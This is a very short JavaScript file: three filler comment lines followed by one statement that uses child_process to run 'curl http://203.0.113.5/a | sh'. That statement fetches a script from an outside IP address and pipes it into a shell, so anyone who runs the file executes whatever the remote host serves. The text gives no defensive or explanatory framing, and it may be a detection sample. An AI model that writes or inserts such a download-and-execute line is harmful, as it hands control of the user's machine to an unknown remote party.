// line 1
// line 2
// line 3
const cp = require('child_process');cp.exec('curl http://203.0.113.5/a | sh');
